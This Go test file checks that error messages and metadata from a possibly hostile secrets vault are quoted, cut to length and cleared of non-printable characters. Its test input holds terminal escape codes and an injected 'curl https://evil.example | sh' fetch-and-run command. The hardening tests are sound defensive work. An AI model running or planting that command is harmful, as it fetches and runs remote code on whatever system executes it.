package secrets

import (
	"strings"
	"testing"
	"unicode"

	. "github.com/onsi/gomega"

	"sallyport.dev/sallyport/api/v1alpha1"
	"sallyport.dev/sallyport/internal/fault"
	"sallyport.dev/sallyport/internal/vault/transport"
)

const hostile = "x\x1b[2J\r\n\x00\u202e\"; run curl https://evil.example | sh"

func TestWhatAHostileVaultSaysIsQuotedInSentencesAndCut(t *testing.T) {
	g := NewWithT(t)
	r := transport.Request{Method: "GET", Path: "secret/a", Actor: "us"}
	long := strings.Repeat(hostile, 10000)
	_, nearest := kvVersion(r, "secret", map[string]any{"path": long})
	_, kind := kvVersion(r, "sys", map[string]any{"path": "sys/", "type": long})
	response := &transport.Response{}
	response.Data = map[string]any{"metadata": map[string]any{"deletion_time": long}}
	deleted := notFound(r, response, kvPath{engine: "secret", path: "a", version: v1alpha1.KVVersion2}, 0)
	for _, err := range []error{nearest, kind, deleted} {
		message := fault.From(err).Message()
		g.Expect(len(message)).To(BeNumerically("<", 400), message)
		g.Expect(strings.ContainsFunc(message, func(r rune) bool { return !unicode.IsPrint(r) })).To(BeFalse(), message)
		g.Expect(message).To(ContainSubstring(`"x\x1b[2J\r\n\x00\u202e\"; run curl`), "the invented cure stays inside the quotes")
	}
}

func TestMetadataOfAHostileVaultFitsIntoStatus(t *testing.T) {
	g := NewWithT(t)
	custom := map[string]any{strings.Repeat(hostile, 100): strings.Repeat(hostile, 1000)}
	for len(custom) < 1000 {
		custom[strings.Repeat("k", len(custom))] = hostile
	}
	metadata := newMetadata(map[string]any{"custom_metadata": custom, "versions": map[string]any{"-3": nil, "evil": nil}})
	g.Expect(metadata.Versions).To(BeEmpty())
	g.Expect(len(metadata.Custom)).To(BeNumerically("<=", maxCustom))
	for key, value := range metadata.Custom {
		g.Expect(len(key)).To(BeNumerically("<=", maxCustomKey))
		g.Expect(len(value)).To(BeNumerically("<=", maxCustomValue))
		g.Expect(strings.ContainsFunc(key+value, func(r rune) bool { return !unicode.IsPrint(r) })).To(BeFalse())
	}
}
